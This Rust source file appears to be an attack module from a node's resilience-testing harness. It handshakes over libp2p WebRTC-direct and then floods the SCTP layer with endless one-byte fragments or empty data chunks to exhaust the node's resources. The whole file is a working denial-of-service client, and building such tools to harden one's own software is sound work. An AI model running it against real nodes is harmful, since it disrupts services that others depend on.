//! A hostile browser: WebRTC-direct with packets of SCTP that no browser sends, before any identity is proved.
//!
//! SCTP's window counts bytes, and its costs are by piece. One shape sends fragments of a byte, of a message that never
//! ends, on a channel that nobody reads; the other sends chunks of data without any data. The client is implemented by
//! hand but for DTLS, since no client of SCTP sends either.

use std::{
    net::{Ipv4Addr, SocketAddr},
    sync::Arc,
    time::Duration,
};

use anyhow::{Context as _, bail};
use dimpl::{Dtls, Output};
use hmac::{Hmac, KeyInit as _, Mac as _};
use serde::{Deserialize, Serialize};
use sha1::Sha1;
use tokio::{
    net::UdpSocket,
    time::{Instant, timeout},
};

use super::{
    attack::{CONNECT_TIMEOUT, NodeAttack, RequestPace},
    attacker::{AttackCounts, IDENTITIES, REFUSED_IN_HANDSHAKE, SENT},
};

/// Connections at a time: as many unfinished ones as a subnet may have.
const LANES: u32 = 8;
/// Chunks of one packet; more of them end the connection at once.
const PACKET_CHUNKS: u32 = 55;
/// Bytes of a DTLS packet.
const MTU: usize = 1300;
/// Bytes of the largest packet that is read.
const MAX_PACKET_BYTES: usize = 4096;
/// User name and password of both sides, which WebRTC-direct derives from nothing.
const CREDENTIALS: &str = "libp2p+webrtc+v1/0123456789abcdef";
/// The longest wait for a packet of the node.
const ANSWER_WAIT: Duration = Duration::from_millis(500);

const STUN_MAGIC: [u8; 4] = 0x2112_A442_u32.to_be_bytes();
const STUN_HEADER_BYTES: usize = 20;
const BINDING: u16 = 0x0001;
const SUCCESS: u16 = 0x0101;
const USERNAME: u16 = 0x0006;
const INTEGRITY: u16 = 0x0008;
const PRIORITY: u16 = 0x0024;
const FINGERPRINT: u16 = 0x8028;
const CONTROLLED: u16 = 0x8029;
const FINGERPRINT_MASK: u32 = 0x5354_554E;

const SCTP_PORT: u16 = 5000;
const SCTP_HEADER_BYTES: usize = 12;
const DATA: u8 = 0;
const INIT: u8 = 1;
const INIT_ACK: u8 = 2;
const ABORT: u8 = 6;
const COOKIE_ECHO: u8 = 10;
const COOKIE_ACK: u8 = 11;
/// The parameter of an INIT ACK that the peer sends back.
const COOKIE: u16 = 7;
/// Bytes of an INIT ACK's fields before its parameters.
const INIT_FIELDS: usize = 16;
/// The binary protocol of data channels.
const BINARY: u32 = 53;
/// A channel that was never opened.
const STREAM: u16 = 4;
/// The first sequence number of this side's data.
const FIRST_TSN: u32 = 1000;

/// The shape of an attack's packets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub(super) enum PacketShape {
    /// Fragments of one byte, of a message that never ends.
    TinyPieces,
    /// Whole messages without a byte.
    EmptyChunks,
}

/// Attacks for the time of the plan.
pub(super) async fn attack(
    attack: &NodeAttack,
    target: SocketAddr,
    shape: PacketShape,
    counts: &AttackCounts,
) -> anyhow::Result<()> {
    attack.in_lanes(0..LANES, |_, pace| lane(target, shape, pace, counts.clone())).await
}

/// Opens one connection after another, and sends on each until the node ends it.
async fn lane(target: SocketAddr, shape: PacketShape, mut pace: RequestPace, counts: AttackCounts) {
    loop {
        pace.due(&counts).await;
        let Ok(Ok(mut peer)) = timeout(CONNECT_TIMEOUT, HostilePeer::connect(target)).await else {
            counts.count(REFUSED_IN_HANDSHAKE);
            continue;
        };
        counts.count(IDENTITIES);
        while peer.send_pieces(shape).await.unwrap_or(false) {
            counts.count(SENT);
            pace.due(&counts).await;
        }
        counts.count("ended");
    }
}

/// A chunk of SCTP: its kind and its value.
type SctpChunk = (u8, Vec<u8>);

/// An association without a channel.
struct HostilePeer {
    socket: UdpSocket,
    target: SocketAddr,
    dtls: Dtls,
    output: Vec<u8>,
    due: Option<Instant>,
    is_secure: bool,
    has_ended: bool,
    chunks: Vec<SctpChunk>,
    /// The node's verification tag.
    tag: u32,
    tsn: u32,
}

impl HostilePeer {
    async fn connect(target: SocketAddr) -> anyhow::Result<Self> {
        let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await?;
        socket.connect(target).await?;
        let config = dimpl::Config::builder().mtu(MTU).build()?;
        let certificate = dimpl::certificate::generate_self_signed_certificate()?;
        let mut dtls = Dtls::new_12(Arc::new(config), certificate, std::time::Instant::now());
        dtls.set_active(true);
        let output = vec![0; MAX_PACKET_BYTES];
        let (due, chunks) = (None, Vec::new());
        let mut peer = Self {
            socket,
            target,
            dtls,
            output,
            due,
            is_secure: false,
            has_ended: false,
            chunks,
            tag: 0,
            tsn: FIRST_TSN,
        };
        // The node asks back before it answers a source, and takes the next request.
        for _ in 0..2 {
            peer.socket.send(&stun_request()).await?;
            peer.receive().await?;
        }
        peer.dtls.handle_timeout(std::time::Instant::now())?;
        peer.flush().await?;
        while !peer.is_secure {
            peer.receive().await?;
        }
        peer.associate().await?;
        Ok(peer)
    }

    async fn associate(&mut self) -> anyhow::Result<()> {
        let tag = u32::from_be_bytes(baton_keys::secret::random_bytes()).max(1);
        let (window, streams) = (1u32 << 20, u16::MAX.to_be_bytes());
        let init =
            [&tag.to_be_bytes()[..], &window.to_be_bytes(), &streams, &streams, &FIRST_TSN.to_be_bytes()];
        self.send_chunks(&[chunk(INIT, 0, &init.concat())]).await?;
        let ack = self.wait_for(INIT_ACK).await?;
        self.tag = u32::from_be_bytes(*ack.first_chunk().context("a tag")?);
        let cookie = cookie(&ack).context("a cookie")?;
        self.send_chunks(&[chunk(COOKIE_ECHO, 0, &cookie)]).await?;
        self.wait_for(COOKIE_ACK).await?;
        Ok(())
    }

    /// Sends one packet of pieces. False once the node ended the connection.
    async fn send_pieces(&mut self, shape: PacketShape) -> anyhow::Result<bool> {
        let pieces: Vec<Vec<u8>> = (0..PACKET_CHUNKS).map(|_| self.piece(shape)).collect();
        self.send_chunks(&pieces).await?;
        let mut packet = [0; MAX_PACKET_BYTES];
        while let Ok(length) = self.socket.try_recv(&mut packet) {
            self.take(packet.get(..length).unwrap_or_default()).await?;
        }
        let aborted = self.chunks.drain(..).any(|(kind, _)| kind == ABORT);
        Ok(!aborted && !self.has_ended)
    }

    fn piece(&mut self, shape: PacketShape) -> Vec<u8> {
        let (flags, data) = match shape {
            // The first fragment has the flag of a beginning; none has that of an end.
            PacketShape::TinyPieces => (if self.tsn == FIRST_TSN { 2 } else { 0 }, &b"x"[..]),
            PacketShape::EmptyChunks => (3, &b""[..]),
        };
        let value =
            [&self.tsn.to_be_bytes()[..], &STREAM.to_be_bytes(), &[0, 0], &BINARY.to_be_bytes(), data];
        self.tsn = self.tsn.wrapping_add(1);
        chunk(DATA, flags, &value.concat())
    }

    async fn send_chunks(&mut self, chunks: &[Vec<u8>]) -> anyhow::Result<()> {
        let ports = [SCTP_PORT.to_be_bytes(), SCTP_PORT.to_be_bytes()].concat();
        let mut packet = [&ports[..], &self.tag.to_be_bytes(), &[0; 4], &chunks.concat()].concat();
        let checksum = crc32c(&packet).to_le_bytes();
        if let Some(field) = packet.get_mut(SCTP_HEADER_BYTES - 4..SCTP_HEADER_BYTES) {
            field.copy_from_slice(&checksum);
        }
        self.dtls.send_application_data(&packet)?;
        self.flush().await
    }

    async fn wait_for(&mut self, wanted: u8) -> anyhow::Result<Vec<u8>> {
        loop {
            if let Some(position) = self.chunks.iter().position(|(kind, _)| *kind == wanted) {
                return Ok(self.chunks.swap_remove(position).1);
            }
            self.receive().await?;
        }
    }

    /// Waits for one packet, or for the time to repeat the last one.
    async fn receive(&mut self) -> anyhow::Result<()> {
        let mut packet = [0; MAX_PACKET_BYTES];
        match timeout(ANSWER_WAIT, self.socket.recv(&mut packet)).await {
            Ok(received) => self.take(packet.get(..received?).unwrap_or_default()).await,
            Err(_) => {
                if self.due.is_some_and(|due| due <= Instant::now()) {
                    self.dtls.handle_timeout(std::time::Instant::now())?;
                }
                self.flush().await
            }
        }
    }

    async fn take(&mut self, packet: &[u8]) -> anyhow::Result<()> {
        if packet.first().is_some_and(|first| *first < 4) {
            if let (Some([0, 1]), Some(transaction)) =
                (packet.first_chunk::<2>(), packet.get(STUN_HEADER_BYTES - 12..STUN_HEADER_BYTES))
            {
                self.socket.send(&stun(SUCCESS, transaction, &[])).await?;
            }
            return Ok(());
        }
        self.dtls.handle_packet(packet)?;
        self.flush().await
    }

    /// Sends the packets of DTLS, and takes the chunks that it decrypted.
    async fn flush(&mut self) -> anyhow::Result<()> {
        loop {
            match self.dtls.poll_output(&mut self.output) {
                Output::Packet(packet) => {
                    // A full buffer loses a packet, as a network does.
                    let _ = self.socket.try_send(packet);
                }
                Output::BufferTooSmall { needed } => self.output.resize(needed, 0),
                Output::Timeout(due) => {
                    self.due = Some(due.into());
                    return Ok(());
                }
                Output::Connected => self.is_secure = true,
                Output::ApplicationData(message) => self.chunks.extend(chunks_of(message)),
                Output::CloseNotify => self.has_ended = true,
                _ => {}
            }
            if self.has_ended && !self.is_secure {
                bail!("{} ended the handshake", self.target);
            }
        }
    }
}

fn chunk(kind: u8, flags: u8, value: &[u8]) -> Vec<u8> {
    let length = u16::try_from(4 + value.len()).unwrap_or(u16::MAX);
    let mut bytes = [&[kind, flags][..], &length.to_be_bytes(), value].concat();
    bytes.resize(bytes.len().next_multiple_of(4), 0);
    bytes
}

/// The chunks of a packet, as far as they have the right form.
fn chunks_of(packet: &[u8]) -> Vec<SctpChunk> {
    let (mut chunks, mut rest) = (Vec::new(), packet.get(SCTP_HEADER_BYTES..).unwrap_or_default());
    while let Some(([kind, _, high, low], _)) = rest.split_first_chunk() {
        let length = usize::from(u16::from_be_bytes([*high, *low]));
        let Some(value) = rest.get(4..length) else { break };
        chunks.push((*kind, value.to_vec()));
        rest = rest.get(length.next_multiple_of(4)..).unwrap_or_default();
    }
    chunks
}

fn cookie(init_ack: &[u8]) -> Option<Vec<u8>> {
    let mut rest = init_ack.get(INIT_FIELDS..)?;
    while let Some(([kind_high, kind_low, high, low], _)) = rest.split_first_chunk() {
        let length = usize::from(u16::from_be_bytes([*high, *low]));
        if u16::from_be_bytes([*kind_high, *kind_low]) == COOKIE {
            return Some(rest.get(4..length)?.to_vec());
        }
        rest = rest.get(length.max(4).next_multiple_of(4)..)?;
    }
    None
}

fn stun_request() -> Vec<u8> {
    let username = format!("{CREDENTIALS}:{CREDENTIALS}");
    let attributes =
        [(USERNAME, username.as_bytes()), (PRIORITY, &[110, 255, 255, 255]), (CONTROLLED, &[0; 8])];
    stun(BINDING, &baton_keys::secret::random_bytes::<12>(), &attributes)
}

/// A message with its integrity and its fingerprint (RFC 8489).
fn stun(kind: u16, transaction: &[u8], attributes: &[(u16, &[u8])]) -> Vec<u8> {
    let mut message = [&kind.to_be_bytes()[..], &[0, 0], &STUN_MAGIC, transaction].concat();
    for (attribute, value) in attributes {
        push_attribute(&mut message, *attribute, value);
    }
    set_length(&mut message, 24);
    let integrity = Hmac::<Sha1>::new_from_slice(CREDENTIALS.as_bytes()).map(|mut mac| {
        mac.update(&message);
        mac.finalize().into_bytes().to_vec()
    });
    push_attribute(&mut message, INTEGRITY, &integrity.unwrap_or_default());
    set_length(&mut message, 8);
    let checksum = crc32fast::hash(&message) ^ FINGERPRINT_MASK;
    push_attribute(&mut message, FINGERPRINT, &checksum.to_be_bytes());
    message
}

fn push_attribute(message: &mut Vec<u8>, attribute: u16, value: &[u8]) {
    message.extend(attribute.to_be_bytes());
    message.extend(u16::try_from(value.len()).unwrap_or(u16::MAX).to_be_bytes());
    message.extend(value);
    message.resize(message.len().next_multiple_of(4), 0);
}

/// Sets the length field, which counts bytes to come.
fn set_length(message: &mut [u8], further: usize) {
    let length = u16::try_from(message.len() - STUN_HEADER_BYTES + further).unwrap_or(u16::MAX);
    if let Some(field) = message.get_mut(2..4) {
        field.copy_from_slice(&length.to_be_bytes());
    }
}

/// SCTP's checksum (RFC 9260, appendix A), bit by bit: the attacker is slower than the node by this alone.
fn crc32c(bytes: &[u8]) -> u32 {
    let step = |crc: u32| if crc & 1 == 1 { (crc >> 1) ^ 0x82F6_3B78 } else { crc >> 1 };
    !bytes.iter().fold(u32::MAX, |crc, byte| (0..8).fold(crc ^ u32::from(*byte), |crc, _| step(crc)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_is_that_of_sctp() {
        // RFC 3720, section B.4.
        assert_eq!(crc32c(&[0; 32]), 0x8A91_36AA);
        assert_eq!(crc32c(&[0xFF; 32]), 0x62A8_AB43);
        assert_eq!(crc32c(b"123456789"), 0xE306_9283);
    }

    #[test]
    fn chunks_are_read_as_they_are_written() {
        let chunks = [chunk(DATA, 3, b"x"), chunk(ABORT, 0, b""), chunk(COOKIE_ECHO, 0, b"four")].concat();
        let packet = [&[0; SCTP_HEADER_BYTES][..], &chunks].concat();
        let expected = [(DATA, b"x".to_vec()), (ABORT, Vec::new()), (COOKIE_ECHO, b"four".to_vec())];
        assert_eq!(chunks_of(&packet), expected);
        assert_eq!(chunks_of(&packet[..packet.len() - 1]).len(), 2);
    }
}
